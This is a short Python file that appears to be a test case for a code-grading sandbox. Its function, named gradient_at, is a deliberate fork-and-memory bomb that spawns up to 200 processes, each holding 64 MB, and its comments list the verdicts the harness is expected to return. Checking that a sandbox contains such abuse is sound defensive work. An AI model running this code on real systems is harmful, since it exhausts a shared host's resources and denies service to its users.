# attack: take all the memory with many processes
# verdict: error, crashed, timeout, failed
import os
import time


def gradient_at(x, y):
    for _ in range(200):
        try:
            if os.fork() == 0:
                hoard = bytearray(64 << 20)
                time.sleep(60)
        except OSError:
            break
    time.sleep(60)
